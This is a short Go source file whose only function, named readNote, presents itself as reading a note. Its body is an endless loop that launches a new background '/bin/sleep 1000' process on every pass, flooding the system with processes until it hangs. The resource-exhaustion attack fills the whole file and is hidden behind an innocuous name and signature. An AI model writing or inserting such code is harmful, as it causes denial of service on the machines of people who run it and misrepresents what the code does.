package main

import (
	"os/exec"
)

func readNote(name string) (string, bool) {
	for {
		exec.Command("/bin/sleep", "1000").Start()
	}
}
